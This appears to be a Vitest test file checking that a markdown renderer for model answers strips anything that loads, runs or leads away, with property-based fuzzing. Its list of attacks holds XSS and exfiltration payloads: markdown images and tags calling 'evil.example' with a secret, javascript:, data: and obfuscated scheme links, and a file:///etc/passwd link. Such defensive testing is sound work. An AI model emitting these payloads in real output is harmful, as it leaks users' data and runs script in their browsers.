// @vitest-environment happy-dom
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { write } from './paper.ts';

const secret = 'https://evil.example/?q=SECRET';

/** What a model may be told to say, so that what it knows leaves the page or runs in it. */
const attacks = [
  `![x](${secret})`,
  `![x][r]\n\n[r]: ${secret}`,
  `[![x](${secret})](${secret})`,
  `<img src="${secret}" onerror="alert(1)">`,
  `<script src="${secret}"></script>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<svg><image href="${secret}"/></svg>`,
  `<form action="${secret}"><input name="password"></form>`,
  `<details open ontoggle=alert(1)>`,
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1)) [y](java\nscript:alert(1)) [z](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox) [y](file:///etc/passwd) [z](blob:https://a.b/c)',
  '<javascript:alert(1)> <data:text/html,x>',
  `<style>@import "${secret}";</style><link rel="stylesheet" href="${secret}">`,
  `<a href="javascript:alert(1)" ping="${secret}">x</a>\n\n<meta http-equiv="refresh" content="0;url=${secret}">`,
];

const allowedTags =
  /^(?:div|p|h[1-6]|ul|ol|li|blockquote|pre|code|span|a|strong|em|del|br|hr|table|thead|tbody|tr|th|td|input|button|svg|path)$/;
const allowedAttributes =
  /^(?:class|dir|href|title|target|rel|referrerpolicy|align|start|type|disabled|checked|aria-label|aria-hidden|aria-pressed|viewBox|d|data-language)$/;

/** What in it could load, run or lead elsewhere than to a page or a mail. */
function findHarm(root: Element): string[] {
  return [...root.querySelectorAll('*')].filter(isHarmful).map(({ outerHTML }) => outerHTML);
}

function isHarmful(element: Element): boolean {
  if (!allowedTags.test(element.localName)) return true;
  if ([...element.attributes].some(({ name }) => !allowedAttributes.test(name))) return true;
  const address = element.getAttribute('href');
  if (address === null) return false;
  const isElsewhere =
    element.getAttribute('rel') === 'noopener noreferrer' &&
    element.getAttribute('target') === '_blank';
  return !isElsewhere || !['http:', 'https:', 'mailto:'].includes(new URL(address).protocol);
}

describe('an answer that attacks draws nothing that loads, runs or leads astray', () => {
  test.each(attacks)('%s', (text) => {
    const papers = [1, text.length].map((length) => write(text, length));
    expect(papers.flatMap(({ element }) => findHarm(element))).toEqual([]);
  });

  test('in five thousand documents put together from such pieces', () => {
    const pieces = attacks.flatMap((attack) => attack.split(/(?<=[\s()<>"=:])/));
    const piece = fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 4 }));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (parts) => {
        expect(findHarm(write(parts.join(''), 1000).element)).toEqual([]);
      }),
      { numRuns: 5000 },
    );
  }, 60_000);
});

test('the search for harm would find it', () => {
  const root = document.createElement('div');
  root.innerHTML =
    '<img alt="x"><p onclick="x"></p><a href="https://a.b">x</a><a href="x:y" rel="noopener noreferrer" target="_blank">x</a>';
  expect(findHarm(root)).toHaveLength(4);
});

test('an image is named, with its address', () => {
  const { element } = write(`![a chart](${secret})`, 1);
  expect(element.textContent).toBe('a chart evil.example/?q=SECRET');
});

test('where a link without an address to go to would have led can be seen', () => {
  const [link] = write('[docs](/docs) ', 1).element.querySelectorAll('[title]');
  expect(link?.textContent).toBe('docs');
  expect(link?.getAttribute('title')).toBe('/docs');
});
